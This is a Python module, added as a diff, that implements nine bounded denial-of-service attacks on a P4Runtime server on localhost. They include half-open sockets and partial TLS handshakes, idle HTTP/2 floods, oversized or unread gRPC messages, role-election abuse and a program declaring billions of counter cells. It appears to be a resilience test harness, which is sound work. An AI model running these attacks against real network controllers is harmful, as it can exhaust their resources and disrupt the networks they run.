@@ -1,0 +1,288 @@
+"""The attacks. Each runs for some seconds against a server's ports and counts what it did.
+
+An attack keeps at most 1000 connections open and waits a millisecond between rounds, so that its
+load is bounded in count and in time.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import socket
+import sys
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).parent.parent))
+
+from attacks import messages
+from attacks.http2 import Connection, message, open_connection
+
+MIB = 1 << 20
+
+
+@dataclass(frozen=True)
+class Target:
+    """Where the attacked server listens, and what the attacks on programs need.
+
+    Attributes:
+        p4runtime: the port of P4Runtime.
+        metrics: the port of the metrics.
+        p4info: the P4Info of ``bomb``, in binary.
+        bomb: a small program that declares billions of cells.
+    """
+
+    p4runtime: int
+    metrics: int
+    p4info: bytes
+    bomb: bytes
+
+
+Counts = dict[str, int]
+Attack = Callable[[Target, float], Counts]
+
+
+def rounds(seconds: float) -> Iterator[int]:
+    """Counts rounds until the time is over, with a millisecond between them."""
+    end = time.monotonic() + seconds
+    number = 0
+    while time.monotonic() < end:
+        yield number
+        number += 1
+        time.sleep(0.001)
+
+
+class Crowd:
+    """Up to ``size`` connections, each replaced when the server closes it."""
+
+    def __init__(self, port: int, size: int, window: int = 65535) -> None:
+        self._port, self._size, self._window = port, size, window
+        self.open: list[Connection] = []
+        self.counts = {"connections": 0, "closed by server": 0, "MB sent": 0}
+        self._sent = 0
+
+    def fill(self) -> list[Connection]:
+        """Opens the connections that are missing and returns these."""
+        for one in self.open:
+            if one.is_closed:
+                self.counts["closed by server"] += 1
+                self._sent += one.sent
+        self.open = [one for one in self.open if not one.is_closed]
+        new = []
+        # A few in each round: a server that refuses them would otherwise see a flood of SYNs only.
+        while len(self.open) + len(new) < self._size and len(new) < 8:
+            connection = open_connection(self._port, self._window)
+            if connection is None:
+                break
+            self.counts["connections"] += 1
+            new.append(connection)
+        self.open += new
+        return new
+
+    def turn(self) -> None:
+        """Lets each connection send and receive what it can."""
+        for connection in self.open:
+            connection.turn()
+
+    def end(self) -> Counts:
+        """Closes all and returns the counts."""
+        self.counts["MB sent"] = (self._sent + sum(one.sent for one in self.open)) // MIB
+        for connection in self.open:
+            connection.close()
+        return self.counts
+
+
+def unfinished_messages(target: Target, seconds: float) -> Counts:
+    """Four connections with 100 calls each announce messages of 50 MB and send most of them."""
+    crowd = Crowd(target.p4runtime, 4)
+    updates = messages.EMPTY_UPDATE * 8192
+    calls: dict[int, list[int]] = {}
+    for _ in rounds(seconds):
+        for connection in crowd.fill():
+            streams = [connection.call("Write") for _ in range(100)]
+            calls[id(connection)] = streams
+            for stream in streams:
+                connection.send(stream, message(b"", announced=50 * MIB))
+        for connection in crowd.open:
+            for stream in calls[id(connection)]:
+                if stream not in connection.ended and not connection.has_left(stream):
+                    connection.send(stream, updates)
+        crowd.turn()
+    return crowd.end()
+
+
+def unread_answers(target: Target, seconds: float) -> Counts:
+    """A role's primary bids again and again with a config of 64 KB; 16 backups read no answer."""
+    crowd = Crowd(target.p4runtime, 2, window=0)
+    # Role configs of Stratum's form: a packet-in filter with a value of 64 000 bytes.
+    config = messages.part(1, b"type.googleapis.com/stratum.P4RoleConfig") + messages.part(
+        2, messages.part(3, messages.number(1, 1) + messages.part(2, bytes(64000)))
+    )
+    tops: dict[int, int] = {}
+    role = 0
+    bids = 0
+    for _ in rounds(seconds):
+        for connection in crowd.fill():
+            role += 1
+            for low in range(1, 17):
+                stream = connection.call("StreamChannel")
+                connection.send(stream, message(messages.bid(low, f"r{role % 8}")))
+            tops[id(connection)] = stream
+        for connection in crowd.open:
+            stream = tops[id(connection)]
+            if stream in connection.ended:
+                connection.close()
+            elif not connection.has_left(stream):
+                connection.send(stream, message(messages.bid(100, f"r{role % 8}", config)))
+                bids += 1
+        crowd.turn()
+    return {**crowd.end(), "bids": bids}
+
+
+def empty_updates(target: Target, seconds: float) -> Counts:
+    """Eight connections without rights repeat a message with 800 000 empty updates."""
+    crowd = Crowd(target.p4runtime, 8)
+    body = message(messages.write(messages.EMPTY_UPDATE * 800_000, low=77))
+    current: dict[int, int] = {}
+    writes = 0
+    for _ in rounds(seconds):
+        crowd.fill()
+        for connection in crowd.open:
+            stream = current.get(id(connection))
+            if stream is None or stream in connection.ended:
+                current[id(connection)] = stream = connection.call("Write")
+                connection.send(stream, body, is_last=True)
+                writes += 1
+        crowd.turn()
+    return {**crowd.end(), "writes": writes}
+
+
+def idle_connections(target: Target, seconds: float) -> Counts:
+    """1000 connections of HTTP/2 that ask for nothing."""
+    crowd = Crowd(target.p4runtime, 1000)
+    for _ in rounds(seconds):
+        crowd.fill()
+        crowd.turn()
+    return crowd.end()
+
+
+def half_open(port: int, start: bytes, size: int, seconds: float) -> Counts:
+    """Sends the start of a request on many sockets, and never the rest."""
+    sockets: list[socket.socket] = []
+    counts = {"connections": 0, "closed by server": 0}
+    for _ in rounds(seconds):
+        for one in list(sockets):
+            with contextlib.suppress(BlockingIOError):
+                try:
+                    gone = one.recv(4096) == b""
+                except BlockingIOError:
+                    continue
+                except OSError:
+                    gone = True
+                if gone:
+                    counts["closed by server"] += 1
+                    one.close()
+                    sockets.remove(one)
+        for _ in range(min(8, size - len(sockets))):
+            try:
+                one = socket.create_connection(("127.0.0.1", port), timeout=1)
+                one.sendall(start)
+            except OSError:
+                continue
+            one.setblocking(False)
+            sockets.append(one)
+            counts["connections"] += 1
+    for one in sockets:
+        one.close()
+    return counts
+
+
+def half_handshakes(target: Target, seconds: float) -> Counts:
+    """1000 sockets with the first bytes of a ClientHello (RFC 8446, section 4.1.2)."""
+    return half_open(target.p4runtime, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 1000, seconds)
+
+
+def half_metrics(target: Target, seconds: float) -> Counts:
+    """1000 half-sent requests for the metrics."""
+    return half_open(target.metrics, b"GET /metrics HTTP/1.1\r\nHost: ", 1000, seconds)
+
+
+def roles(target: Target, seconds: float) -> Counts:
+    """New role names without end, each with the largest election id, and streams without an id."""
+    largest = (1 << 64) - 1
+    crowd = Crowd(target.p4runtime, 4)
+    names = 0
+    for number in rounds(seconds):
+        for connection in crowd.fill():
+            for _ in range(64):
+                stream = connection.call("StreamChannel")
+                connection.send(stream, message(messages.bid(None)))
+        for connection in crowd.open:
+            for _ in range(2):
+                stream = connection.call("StreamChannel")
+                connection.send(stream, message(messages.bid(largest, f"role {names}", high=largest)))
+                names += 1
+        crowd.turn()
+        if number % 200 == 199:
+            for connection in crowd.open:
+                connection.close()
+    return {**crowd.end(), "role names": names}
+
+
+def programs(target: Target, seconds: float, text: bytes) -> Counts:
+    """The primary of a role of its own asks again and again to VERIFY a program."""
+    crowd = Crowd(target.p4runtime, 2)
+    request = message(messages.verify(target.p4info, text, 1, "attacker"))
+    current: dict[int, int] = {}
+    requests = 0
+    for _ in rounds(seconds):
+        for connection in crowd.fill():
+            stream = connection.call("StreamChannel")
+            connection.send(stream, message(messages.bid(1, "attacker")))
+        for connection in crowd.open:
+            stream = current.get(id(connection), 0)
+            if not stream or stream in connection.ended:
+                current[id(connection)] = stream = connection.call("SetForwardingPipelineConfig")
+                connection.send(stream, request, is_last=True)
+                requests += 1
+        crowd.turn()
+    return {**crowd.end(), "requests": requests}
+
+
+def many_cells(target: Target, seconds: float) -> Counts:
+    """VERIFY of a small program with 30 counters and meters of 67 108 864 cells."""
+    return programs(target, seconds, target.bomb)
+
+
+def long_text(target: Target, seconds: float) -> Counts:
+    """VERIFY of a program whose text has 52 MB."""
+    return programs(target, seconds, b"const bit<8> c = 1 + 1;\n" * (52 * MIB // 24))
+
+
+ATTACKS: dict[str, Attack] = {
+    "unfinished-messages": unfinished_messages,
+    "unread-answers": unread_answers,
+    "empty-updates": empty_updates,
+    "idle-connections": idle_connections,
+    "half-handshakes": half_handshakes,
+    "half-metrics": half_metrics,
+    "roles": roles,
+    "many-cells": many_cells,
+    "long-text": long_text,
+}
+
+# Attacks on handshakes need a server with TLS. A client without a certificate gets no further.
+WITH_TLS = ("half-handshakes",)
+
+
+def main() -> None:
+    """Runs one attack and prints its counts; the arguments are those that ``__main__`` passes."""
+    name, seconds, p4runtime, metrics, p4info, bomb = sys.argv[1:]
+    target = Target(int(p4runtime), int(metrics), Path(p4info).read_bytes(), Path(bomb).read_bytes())
+    print(json.dumps(ATTACKS[name](target, float(seconds))))
+
+
+if __name__ == "__main__":
+    main()
